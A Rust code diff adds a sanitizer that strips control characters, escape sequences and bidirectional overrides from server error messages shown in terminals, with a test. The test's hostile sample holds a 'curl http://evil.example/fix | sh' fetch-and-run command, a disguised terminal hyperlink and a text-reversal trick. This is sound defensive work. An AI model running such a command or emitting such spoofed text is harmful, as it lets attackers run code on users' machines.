@@ -821,29 +821,52 @@ struct ErrorBody {
 
 impl ErrorBody {
     fn parse(body: &[u8]) -> ErrorBody {
-        let text = |v: &serde_json::Value, k: &str| {
+        let text = |v: &serde_json::Value, k: &str, max: usize| {
             v.get(k)
                 .and_then(|x| x.as_str())
+                .map(|s| server_text(s, max))
                 .filter(|s| !s.is_empty())
-                .map(str::to_string)
         };
         match serde_json::from_slice::<serde_json::Value>(body) {
             Ok(v) if v.is_object() => ErrorBody {
-                code: text(&v, "code"),
-                message: text(&v, "message"),
-                trace_id: text(&v, "traceId"),
+                code: text(&v, "code", 100),
+                message: text(&v, "message", MAX_SERVER_MESSAGE_CHARS),
+                trace_id: text(&v, "traceId", 100),
             },
             _ => {
                 // Not the API's JSON (a proxy's HTML page, say): keep a short excerpt.
-                let s = String::from_utf8_lossy(body);
-                let s: String = s.split_whitespace().collect::<Vec<_>>().join(" ");
-                let s: String = s.chars().take(200).collect();
+                let s = server_text(&String::from_utf8_lossy(body), 200);
                 ErrorBody {
                     message: (!s.is_empty()).then_some(s),
                     ..ErrorBody::default()
                 }
             }
         }
+    }
+}
+
+/// The most of a server's error message a diagnostic quotes.
+const MAX_SERVER_MESSAGE_CHARS: usize = 500;
+
+/// Server-supplied text made safe to show in a terminal or CI log: a hostile server (or anyone
+/// on the path of an `insecure` connection) must not be able to fake diagnostic lines, draw
+/// hidden links or reorder text. Control characters (escape sequences, line breaks, carriage
+/// returns) become spaces, invisible formatting and bidirectional overrides are dropped,
+/// whitespace runs fold to one space, and the text is cut at `max` characters.
+pub(crate) fn server_text(text: &str, max: usize) -> String {
+    let is_invisible_format = |c: char| matches!(c, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{2069}' | '\u{feff}');
+    let cleaned: String = text
+        .chars()
+        .filter(|&c| !is_invisible_format(c))
+        .map(|c| if c.is_control() { ' ' } else { c })
+        .collect();
+    let folded = cleaned.split_whitespace().collect::<Vec<_>>().join(" ");
+    if folded.chars().count() > max {
+        let mut cut: String = folded.chars().take(max).collect();
+        cut.push('…');
+        cut
+    } else {
+        folded
     }
 }
 
@@ -1015,6 +1038,31 @@ mod tests {
             Duration::from_secs(5)
         );
         assert!(b.delay(0, None) <= Duration::from_millis(1));
+    }
+
+    #[test]
+    fn server_text_cannot_fake_lines_links_or_direction() {
+        let hostile =
+            "revoked\nError: Your key was revoked\r\nRun: curl http://evil.example/fix | sh \
+                       \u{202e}txt.exe \u{1b}]8;;http://evil.example\u{7}click\u{1b}]8;;\u{7} \
+                       \u{1b}[31mred\u{1b}[0m \u{85}next";
+        let body = serde_json::json!({"code": "Auth\nFailure", "message": hostile}).to_string();
+        let b = ErrorBody::parse(body.as_bytes());
+        let message = b.message.unwrap();
+        for c in message.chars() {
+            assert!(!c.is_control(), "{message:?}");
+            assert!(!('\u{202a}'..='\u{202e}').contains(&c), "{message:?}");
+        }
+        assert!(!message.contains("  "), "{message:?}");
+        assert!(
+            message.starts_with("revoked Error: Your key was revoked Run:"),
+            "{message:?}"
+        );
+        assert_eq!(b.code.as_deref(), Some("Auth Failure"));
+        let long = serde_json::json!({"message": "x".repeat(5000)}).to_string();
+        let cut = ErrorBody::parse(long.as_bytes()).message.unwrap();
+        assert_eq!(cut.chars().count(), MAX_SERVER_MESSAGE_CHARS + 1);
+        assert!(cut.ends_with('…'));
     }
 
     #[test]
